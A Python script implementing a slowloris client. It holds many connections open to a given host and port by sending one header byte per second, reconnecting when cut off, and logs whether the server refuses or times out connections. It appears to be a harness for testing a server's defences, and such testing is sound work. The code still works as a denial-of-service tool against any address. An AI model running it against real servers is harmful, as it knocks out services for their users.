#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""slowloris.py HOST PORT N STATUS_FILE [--source ADDR | --sources PREFIX]: N clients that never
finish a request.

Each client connects to HOST:PORT, sends a request line and a Host header, then one more byte
of a header every second, forever: the request is never complete, and the connection is never
idle. When the server closes one, it connects again (as an attacker holding the server's
connection slots would). With --source ADDR every client binds to that source address; with
--sources PREFIX (e.g. 127.0.1.), client i binds to PREFIX<i+1>, so that each comes from another
address; by default they come from the address any other loopback client has.

Every half second STATUS_FILE is rewritten with one JSON object:
  connects   connections opened so far
  open       connections open now
  refused    connections the server closed within a second of their start (a limit)
  cut        connections the server closed later, while they were still trickling (a deadline)
Runs until killed. Standard library only.
"""
import json
import os
import selectors
import socket
import sys
import time


class Client:
    def __init__(self, source):
        self.source = source
        self.sock = None
        self.started = 0.0
        self.next_send = 0.0
        self.sent = 0


def main():
    if len(sys.argv) not in (5, 7):
        sys.exit(__doc__)
    host, port, n, status = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
    opt, arg = (sys.argv[5], sys.argv[6]) if len(sys.argv) == 7 else (None, None)
    if opt not in (None, "--source", "--sources"):
        sys.exit(__doc__)
    clients = [Client(arg + str(i + 1) if opt == "--sources" else arg) for i in range(n)]
    sel = selectors.DefaultSelector()
    counts = {"connects": 0, "open": 0, "refused": 0, "cut": 0}
    trickle = b"X-Slow: " + b"a" * 4000

    def connect(c, now):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            if c.source:
                s.bind((c.source, 0))
            s.settimeout(2)
            s.connect((host, port))
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n")
            s.setblocking(False)
        except OSError:
            s.close()
            c.next_send = now + 1
            return
        c.sock, c.started, c.next_send, c.sent = s, now, now + 1, 0
        sel.register(s, selectors.EVENT_READ, c)
        counts["connects"] += 1
        counts["open"] += 1

    def closed(c, now):
        sel.unregister(c.sock)
        c.sock.close()
        c.sock = None
        counts["open"] -= 1
        counts["refused" if now - c.started < 1.0 else "cut"] += 1
        c.next_send = now + 0.2

    last_status = 0.0
    while True:
        now = time.monotonic()
        for c in clients:
            if c.sock is None and now >= c.next_send:
                connect(c, now)
            elif c.sock is not None and now >= c.next_send:
                try:
                    c.sock.send(trickle[c.sent % len(trickle) : c.sent % len(trickle) + 1])
                    c.sent += 1
                    c.next_send = now + 1
                except OSError:
                    closed(c, now)
        for key, _ in sel.select(timeout=0.05):
            c = key.data
            try:
                data = c.sock.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:  # the server closed it (an answer would mean the request ended)
                closed(c, time.monotonic())
        if now - last_status >= 0.5:
            tmp = status + ".tmp"
            with open(tmp, "w") as f:
                json.dump(counts, f)
            os.replace(tmp, status)
            last_status = now


if __name__ == "__main__":
    main()
